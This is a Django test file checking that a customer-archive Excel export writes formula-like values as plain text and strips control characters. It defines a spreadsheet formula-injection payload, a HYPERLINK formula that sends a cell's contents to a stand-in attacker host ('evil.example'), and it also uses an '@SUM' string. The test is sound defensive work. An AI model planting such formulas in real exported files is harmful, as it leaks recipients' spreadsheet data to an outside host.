"""The archive export: what an archive holds never becomes a formula in the recipient's spreadsheet."""

import io
from datetime import datetime

from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import ContactFactory, CustomerFactory

EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"点击")'


def test_a_formula_in_an_archive_is_exported_as_text(login, manager, org_tree):
    customer = CustomerFactory(
        station=org_tree["station"], manager=manager, name=EVIL, address="a\u0001\u0007\u001b[31mb"
    )
    ContactFactory(customer=customer, name="@SUM(A1)")
    response = login(manager).get(reverse("customers:export"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert row["客户名称"].value == EVIL and row["客户名称"].data_type == "s"
    assert row["主联系人"].value == "@SUM(A1)" and row["主联系人"].data_type == "s"
    assert row["用电地址"].value == "a[31mb"
    assert row["户号"].value == customer.number
    assert isinstance(row["档案核实时间"].value, datetime)
